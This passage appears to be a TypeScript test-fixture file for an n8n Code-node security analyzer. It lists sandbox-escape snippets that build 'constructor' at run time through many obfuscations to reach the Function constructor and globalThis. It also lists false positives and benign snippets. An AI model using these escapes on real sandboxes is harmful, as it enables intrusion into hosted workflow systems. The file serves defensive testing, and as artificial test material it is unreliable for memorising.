    "why": "a key built at run time (fnname) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-symdesc",
    "cls": "runtime-key",
    "code": "const k = Symbol('constructor').description;\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (symdesc) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-source",
    "cls": "runtime-key",
    "code": "const k = /constructor/.source;\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (source) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-errmsg",
    "cls": "runtime-key",
    "code": "const k = new Error('constructor').message;\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (errmsg) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-keys",
    "cls": "runtime-key",
    "code": "const k = Object.keys({ constructor: 1 })[0];\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (keys) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-fromcharcode",
    "cls": "runtime-key",
    "code": "const k = String.fromCharCode(99,111,110,115,116,114,117,99,116,111,114);\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (fromcharcode) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-atob",
    "cls": "runtime-key",
    "code": "const k = atob('Y29uc3RydWN0b3I=');\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (atob) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-buffer",
    "cls": "runtime-key",
    "code": "const k = Buffer.from('636f6e7374727563746f72', 'hex').toString();\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (buffer) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-textdecoder",
    "cls": "runtime-key",
    "code": "const k = new TextDecoder().decode(new Uint8Array([99,111,110,115,116,114,117,99,116,111,114]));\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (textdecoder) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-date",
    "cls": "runtime-key",
    "code": "const k = new Date(0).toISOString() && 'constructor';\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (date) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-raw",
    "cls": "runtime-key",
    "code": "const k = String.raw`constructor`;\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (raw) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-at",
    "cls": "runtime-key",
    "code": "const k = ['constructor'].at(-1);\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (at) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-replace",
    "cls": "runtime-key",
    "code": "const k = 'x'.replace('x', 'constructor');\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (replace) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-replace-fn",
    "cls": "runtime-key",
    "code": "const k = 'x'.replace('x', () => 'constructor');\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (replace-fn) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-intl",
    "cls": "runtime-key",
    "code": "const k = new Intl.ListFormat('en').format(['constructor']);\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (intl) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-uri",
    "cls": "runtime-key",
    "code": "const k = decodeURIComponent('%63onstructor');\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (uri) that is 'constructor': reported as a key known only at run time"
  }
];

export const ROUND15_FALSE_POSITIVES: RedTeamFalsePositive[] = [
  {
    "id": "fp/group-by-reduce-or-assign",
    "code": "const groups = items.reduce((acc, item) => {\n  const tag = item.json.tags[0] ?? 'none';\n  (acc[tag] ||= []).push(item.json.id);\n  return acc;\n}, {});\nreturn Object.entries(groups).map(([tag, ids]) => ({ json: { tag, ids } }));",
    "why": "The usual group-by with reduce: acc[tag] ||= [] then push, one accumulator object threaded through reduce. Nothing but the code's own data flows anywhere; the oracle obtains nothing. The analysis does not settle: \"unprovable: the analysis did not settle within the work bound per body (1500000 values handled by reads and calls) (what it learned so far is not a proof)\"."
  },
  {
    "id": "fp/group-by-reduce-or-default",
    "code": "const byName = items.reduce((acc, item) => {\n  acc[item.json.name] = acc[item.json.name] || [];\n  acc[item.json.name].push(item.json);\n  return acc;\n}, {});\nreturn Object.keys(byName).map((name) => ({ json: { name, count: byName[name].length } }));",
    "why": "The same group-by spelled acc[k] = acc[k] || []; acc[k].push(item.json) with the key read from the row (a string of n8n data), then Object.keys. The oracle obtains nothing. The analysis does not settle (work or time bound, depending on the machine): \"unprovable: the analysis did not settle within the time bound per body (5000 ms) (what it learned so far is not a proof)\"."
  },
  {
    "id": "fp/csv-header-fromEntries",
    "code": "const csv = 'name,email\\nAda,ada@example.com\\nAlan,alan@example.com';\nconst [header, ...rows] = csv.split('\\n').map((l) => l.split(','));\nreturn rows.map((cols) => ({ json: Object.fromEntries(header.map((h, i) => [h, cols[i]])) }));",
    "why": "Parsing a CSV literal: the header line split on ',' gives the keys, each row's columns the values, Object.fromEntries(header.map((h, i) => [h, cols[i]])). Every key and value is a string from String.prototype.split; the oracle obtains nothing. The analysis takes cols[i] (i: map's index) for any property of an array, a key known only at run time, and so the rows may hold a method n8n calls: \"unprovable: `return rows.map((cols) => ({ json: Object.fromEntries(hea...` may be Object.prototype.__defineGetter__ (a key known only at run time, or a built-in without a summary, may give it) and is called\"."
  },
  {
    "id": "fp/csv-header-forEach",
    "code": "const lines = ['id,name', '1,Ada', '2,Alan'];\nconst headers = lines[0].split(',');\nconst out = [];\nfor (const line of lines.slice(1)) {\n  const cols = line.split(',');\n  const row = {};\n  headers.forEach((h, i) => { row[h] = cols[i]; });\n  out.push({ json: row });\n}\nreturn out;",
    "why": "The same CSV parse as a loop: headers.forEach((h, i) => { row[h] = cols[i]; }). The oracle obtains nothing. The analysis reports: \"unprovable: `return out;` may be Object.prototype.__defineGetter__ (a key known only at run time, or a built-in without a summary, may give it) and is called\"."
  }
];

export const ROUND15_PURE: Round15Pure[] = [
  {
    "id": "pure/map-add-field",
    "code": "return items.map((item) => ({ json: { ...item.json, fullName: item.json.name.toUpperCase(), processedAt: new Date().toISOString() } }));"
  },
  {
    "id": "pure/filter",
    "code": "return items.filter((item) => item.json.score > 10 && item.json.email.endsWith('@example.com'));"
  },
  {
    "id": "pure/sort-comparator",
    "code": "const sorted = [...items].sort((a, b) => b.json.score - a.json.score || a.json.name.localeCompare(b.json.name));\nreturn sorted.map((item, rank) => ({ json: { rank: rank + 1, name: item.json.name } }));"
  },
  {
    "id": "pure/date-format",
    "code": "const fmt = new Intl.DateTimeFormat('en-GB', { dateStyle: 'medium', timeZone: 'UTC' });\nconst due = new Date(Date.UTC(2025, 0, 31));\ndue.setUTCDate(due.getUTCDate() + 14);\nreturn [{ json: { due: fmt.format(due), iso: due.toISOString().slice(0, 10) } }];"
  },
  {
    "id": "pure/class-methods",
    "code": "class Invoice {\n  constructor(lines) { this.lines = lines; }\n  get total() { return this.lines.reduce((s, l) => s + l.qty * l.price, 0); }\n  toJSON() { return { total: this.total, count: this.lines.length }; }\n}\nconst inv = new Invoice(items.map((i) => ({ qty: 1, price: i.json.score })));\nreturn [{ json: inv.toJSON() }];"
  },
  {
    "id": "pure/regex-replace-cb",
    "code": "return items.map((item) => ({ json: { masked: item.json.email.replace(/^(.)(.*)(@.*)$/, (m, a, b, c) => a + '*'.repeat(b.length) + c) } }));"
  },
  {
    "id": "pure/json-parse-fallback",
    "code": "const parse = (s) => { try { return JSON.parse(s); } catch { return null; } };\nreturn items.map((item) => ({ json: { parsed: parse('{\"a\":' + item.json.id + '}'), raw: JSON.stringify(item.json) } }));"
  },
  {
    "id": "pure/dedupe-set",
    "code": "const seen = new Set();\nconst out = [];\nfor (const item of items) {\n  if (seen.has(item.json.email)) continue;\n  seen.add(item.json.email);\n  out.push(item);\n}\nreturn out;"
  },
  {
    "id": "pure/count-map",
    "code": "const counts = new Map();\nfor (const item of items) for (const t of item.json.tags) counts.set(t, (counts.get(t) ?? 0) + 1);\nreturn Array.from(counts, ([tag, n]) => ({ json: { tag, n } }));"
  },
  {
    "id": "pure/deep-merge",
    "code": "function merge(a, b) {\n  const out = { ...a };\n  for (const [k, v] of Object.entries(b)) out[k] = v && typeof v === 'object' && !Array.isArray(v) ? merge(out[k] ?? {}, v) : v;\n  return out;\n}\nreturn [{ json: merge({ a: { x: 1 } }, { a: { y: 2 }, b: 3 }) }];"
  },
  {
    "id": "pure/number-format",
    "code": "const eur = new Intl.NumberFormat('de-DE', { style: 'currency', currency: 'EUR' });\nreturn items.map((item) => ({ json: { price: eur.format(item.json.score), pct: (item.json.score / 100).toFixed(2) } }));"
  },
  {
    "id": "pure/flatmap-tags",
    "code": "return items.flatMap((item) => item.json.tags.map((tag) => ({ json: { id: item.json.id, tag } })));"
  },
  {
    "id": "pure/async-all",
    "code": "const enrich = async (item) => ({ json: { ...item.json, slug: item.json.name.toLowerCase().replace(/\\s+/g, '-') } });\nreturn await Promise.all(items.map(enrich));"
  },
  {
    "id": "pure/generator-pages",
    "code": "function* pages(list, size) {\n  for (let i = 0; i < list.length; i += size) yield list.slice(i, i + size);\n}\nconst out = [];\nfor (const page of pages(items, 1)) out.push({ json: { n: page.length } });\nreturn out;"
  },
  {
    "id": "pure/destructure-defaults",
    "code": "return items.map(({ json: { id, name = 'n/a', tags: [first = null, ...rest] = [] } }) => ({ json: { id, name, first, more: rest.length } }));"
  },
  {
    "id": "pure/slugify-normalize",
    "code": "const slug = (s) => s.normalize('NFD').replace(/[\\u0300-\\u036f]/g, '').toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/(^-|-$)/g, '');\nreturn items.map((item) => ({ json: { slug: slug(item.json.name) } }));"
  },
  {
    "id": "pure/each-item-json",
    "mode": "runOnceForEachItem",
    "code": "const { name, email } = $json;\nreturn { json: { greeting: `Hello ${name.split(' ')[0]}`, domain: email.split('@')[1] } };"
  },
  {
    "id": "pure/named-groups",
    "code": "const re = /(?<user>[^@]+)@(?<host>.+)/;\nreturn items.map((item) => {\n  const m = item.json.email.match(re);\n  return { json: { user: m?.groups.user ?? null, host: m?.groups.host ?? null } };\n});"
  },
  {
    "id": "pure/legacy-arguments-sum",
    "code": "function sum() {\n  let t = 0;\n  for (let i = 0; i < arguments.length; i++) t += arguments[i];\n  return t;\n}\nreturn [{ json: { total: sum(...items.map((i) => i.json.score)) } }];"
  },
  {
    "id": "pure/for-in-keys",
    "code": "return items.map((item) => {\n  const out = {};\n  for (const k in item.json) if (typeof item.json[k] === 'string') out[k] = item.json[k].trim();\n  return { json: out };\n});"
  },
  {
    "id": "pure/date-diff",
    "code": "const now = new Date('2025-06-01T00:00:00Z');\nconst days = (d) => Math.round((now - new Date(d)) / 86400000);\nreturn items.map((item) => ({ json: { id: item.json.id, age: days('2025-01-01') } }));"
  },
  {
    "id": "pure/private-static",
    "code": "class Counter {\n  static #instances = 0;\n  #n = 0;\n  constructor() { Counter.#instances++; }\n  inc() { this.#n++; return this; }\n  get value() { return this.#n; }\n  static get count() { return Counter.#instances; }\n}\nconst c = new Counter();\nfor (const _ of items) c.inc();\nreturn [{ json: { n: c.value, made: Counter.count } }];"
  },
  {
    "id": "pure/input-all-first",
    "code": "const first = $input.first().json;\nconst all = $input.all();\nreturn [{ json: { firstName: first.name, count: all.length, ids: all.map((i) => i.json.id).join(',') } }];"
  },
  {
    "id": "pure/pad-template",
    "code": "const pad = (n) => String(n).padStart(6, '0');\nreturn items.map((item) => ({ json: { ref: `INV-${pad(item.json.id)}`, line: `${item.json.name} <${item.json.email}>` } }));"
  },
  {
    "id": "pure/array-like-index",
    "code": "const row = items[0].json;\nconst first = row.tags[0];\nconst last = row.tags.at(-1);\nreturn [{ json: { first, last, second: row.tags[1] ?? null } }];"
  },
  {
    "id": "pure/toSorted-with",
    "code": "const scores = items.map((i) => i.json.score);\nconst top = scores.toSorted((a, b) => b - a);\nreturn [{ json: { top, bumped: top.with(0, top[0] + 1), rev: scores.toReversed() } }];"
  },
  {
    "id": "pure/object-groupBy",
    "code": "const byDomain = Object.groupBy(items, (i) => i.json.email.split('@')[1]);\nreturn Object.keys(byDomain).map((d) => ({ json: { domain: d, n: byDomain[d].length } }));",
    "node24": true
  },
  {
    "id": "pure/class-getter-setter",
    "code": "class Temp {\n  #c = 0;\n  get f() { return this.#c * 9 / 5 + 32; }\n  set f(v) { this.#c = (v - 32) * 5 / 9; }\n}\nconst t = new Temp();\nt.f = 212;\nreturn [{ json: { c: Math.round(t.f) } }];"
  },
  {
    "id": "pure/static-data-counter",
    "code": "const data = $getWorkflowStaticData('global');\ndata.runs = (data.runs ?? 0) + 1;\nreturn [{ json: { runs: data.runs } }];"
  },
  {
    "id": "pure/g3-loop",
    "code": "const groups = {};\nfor (const item of items) {\n  const tag = item.json.tags[0] ?? 'none';\n  if (!groups[tag]) groups[tag] = [];\n  groups[tag].push(item.json.id);\n}\nreturn Object.entries(groups).map(([tag, ids]) => ({ json: { tag, ids } }));"
  },
  {
    "id": "pure/g4-reduce-spread",
    "code": "const totals = items.reduce((acc, item) => ({ ...acc, [item.json.name]: (acc[item.json.name] ?? 0) + item.json.score }), {});\nreturn [{ json: totals }];"
  },
  {
    "id": "pure/count-reduce",
    "code": "const counts = items.reduce((acc, item) => {\n  for (const t of item.json.tags) acc[t] = (acc[t] || 0) + 1;\n  return acc;\n}, {});\nreturn [{ json: counts }];"
  },
  {
    "id": "pure/memo",
    "code": "const cache = {};\nconst fib = (n) => n < 2 ? n : (cache[n] ??= fib(n - 1) + fib(n - 2));\nreturn items.map((item) => ({ json: { id: item.json.id, fib: fib(item.json.score % 30) } }));"
  },
  {
    "id": "pure/extends",
    "code": "class User { constructor(j) { this.name = j.name; this.email = j.email; } label() { return `${this.name} <${this.email}>`; } }\nclass Admin extends User { label() { return '[admin] ' + super.label(); } }\nreturn items.map((i) => ({ json: { label: (i.json.score > 10 ? new Admin(i.json) : new User(i.json)).label() } }));"
  },
  {
    "id": "pure/allSettled",
    "code": "const results = await Promise.allSettled(items.map(async (i) => { if (i.json.score < 10) throw new Error('low'); return i.json.id; }));\nreturn results.map((r) => ({ json: { ok: r.status === 'fulfilled', v: r.status === 'fulfilled' ? r.value : r.reason.message } }));"
  },
  {
    "id": "pure/collator",
    "code": "const coll = new Intl.Collator('de', { sensitivity: 'base' });\nreturn items.map((i) => i.json.name).sort(coll.compare).map((name) => ({ json: { name } }));"
  },
  {
    "id": "pure/html-tag",
    "code": "const esc = (s) => String(s).replace(/[&<>\"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '\"': '&quot;' })[c]);\nconst html = (strings, ...vals) => strings.reduce((out, s, i) => out + s + (i < vals.length ? esc(vals[i]) : ''), '');\nreturn items.map((i) => ({ json: { row: html`<td>${i.json.name}</td><td>${i.json.email}</td>` } }));"
  },
  {
    "id": "pure/buffer-base64",
    "code": "return items.map((i) => ({ json: { b64: Buffer.from(i.json.email, 'utf8').toString('base64'), bytes: new TextEncoder().encode(i.json.name).length } }));"
  },
  {
    "id": "pure/node-refs",
    "code": "const hook = $('Webhook').first().json;\nreturn [{ json: { from: hook.email, node: $node['Webhook'].json.name, exec: $execution.id, wf: $workflow.name } }];"
  },
  {
    "id": "pure/jmespath",
    "code": "const names = $jmespath(items.map((i) => i.json), '[?score > `10`].name');\nreturn [{ json: { names } }];"
  },
  {
    "id": "pure/flatten-keys",
    "code": "function flatten(obj, prefix = '', out = {}) {\n  for (const [k, v] of Object.entries(obj)) {\n    const key = prefix ? `${prefix}.${k}` : k;\n    if (v && typeof v === 'object' && !Array.isArray(v)) flatten(v, key, out);\n    else out[key] = v;\n  }\n  return out;\n}\nreturn items.map((i) => ({ json: flatten({ user: i.json, meta: { at: 1 } }) }));"
  },
  {
    "id": "pure/range-iterator",
    "code": "class Range {\n  constructor(a, b) { this.a = a; this.b = b; }\n  *[Symbol.iterator]() { for (let i = this.a; i < this.b; i++) yield i; }\n}\nreturn [...new Range(0, 3)].map((n) => ({ json: { n } }));"
  },
  {
    "id": "pure/labeled",
    "code": "const out = [];\nouter: for (const item of items) {\n  for (const t of item.json.tags) {\n    if (t === 'logic') continue outer;\n  }\n  out.push(item);\n}\nreturn out;"
  },
  {
    "id": "pure/switch-status",
    "code": "const status = (s) => { switch (true) { case s >= 40: return 'gold'; case s >= 10: return 'silver'; default: return 'bronze'; } };\nreturn items.map((i) => ({ json: { id: i.json.id, tier: status(i.json.score) } }));"
  },
  {
    "id": "pure/console",
    "code": "for (const item of items) console.log('row', item.json.id);\nreturn items;"
  },
  {
    "id": "pure/locale-date",
    "code": "const d = new Date(Date.UTC(2025, 5, 1));\nreturn [{ json: { us: d.toLocaleDateString('en-US', { weekday: 'long', year: 'numeric', month: 'long', day: 'numeric', timeZone: 'UTC' }), iso: d.toJSON() } }];"
  },
  {
    "id": "pure/lookup-merge",
    "code": "const extra = [{ id: 1, plan: 'pro' }, { id: 2, plan: 'free' }];\nconst byId = new Map(extra.map((e) => [e.id, e]));\nreturn items.map((i) => ({ json: { ...i.json, plan: byId.get(i.json.id)?.plan ?? 'none' } }));"
  },
  {
    "id": "pure/each-input-item",
    "mode": "runOnceForEachItem",
    "code": "const row = $input.item.json;\nrow.domain = row.email.split('@').pop();\nreturn $input.item;"
  },
  {
    "id": "pure/split-pairs",
    "code": "const qs = 'a=1&b=2&c=3';\nconst params = {};\nfor (const pair of qs.split('&')) { const [k, v] = pair.split('='); params[decodeURIComponent(k)] = decodeURIComponent(v ?? ''); }\nreturn [{ json: params }];"
  },
  {
    "id": "pure/pick-omit",
    "code": "const omit = (obj, keys) => Object.fromEntries(Object.entries(obj).filter(([k]) => !keys.includes(k)));\nreturn items.map((i) => ({ json: omit(i.json, ['email', 'tags']) }));"
  },
  {
    "id": "pure/group-by-reduce-key",
    "code": "const byTag = items.reduce((acc, item) => {\n  const key = item.json.tags.length > 1 ? 'multi' : 'single';\n  (acc[key] = acc[key] || []).push(item.json.name);\n  return acc;\n}, {});\nreturn [{ json: byTag }];"
  },
  {
    "id": "pure/json-clone",
    "code": "const copy = JSON.parse(JSON.stringify(items.map((i) => i.json)));\ncopy.forEach((r) => { r.tags.push('seen'); });\nreturn copy.map((json) => ({ json }));"
  },
  {
    "id": "pure/zip-map-index",
    "code": "const names = items.map((i) => i.json.name);\nconst emails = items.map((i) => i.json.email);\nreturn names.map((name, i) => ({ json: { name, email: emails[i] } }));"
  },
  {
    "id": "pure/split-index",
    "code": "return items.map((item) => {\n  const parts = item.json.name.split(' ');\n  const i = parts.length - 1;\n  return { json: { first: parts[0], last: parts[i] } };\n});"
  },
  {
    "id": "pure/string-index",
    "code": "return items.map((item) => ({ json: { initial: item.json.name[0], last: item.json.name[item.json.name.length - 1] } }));"
  },
  {
    "id": "pure/nested-reduce",
    "code": "const matrix = items.map((i) => i.json.tags.map((t) => t.length));\nconst total = matrix.reduce((s, row) => s + row.reduce((a, b) => a + b, 0), 0);\nreturn [{ json: { total } }];"
  },
  {
    "id": "pure/index-of-lookup",
    "code": "const order = ['logic', 'math', 'engines'];\nreturn items.map((item) => ({ json: { first: order[Math.min(...item.json.tags.map((t) => order.indexOf(t)))] } }));"
  },
  {
    "id": "pure/group-loop-push",
    "code": "const groups = {};\nfor (const item of items) {\n  const domain = item.json.email.split('@')[1];\n  groups[domain] = groups[domain] || [];\n  groups[domain].push(item.json.name);\n}\nreturn Object.keys(groups).map((d) => ({ json: { domain: d, names: groups[d] } }));"
  }
];
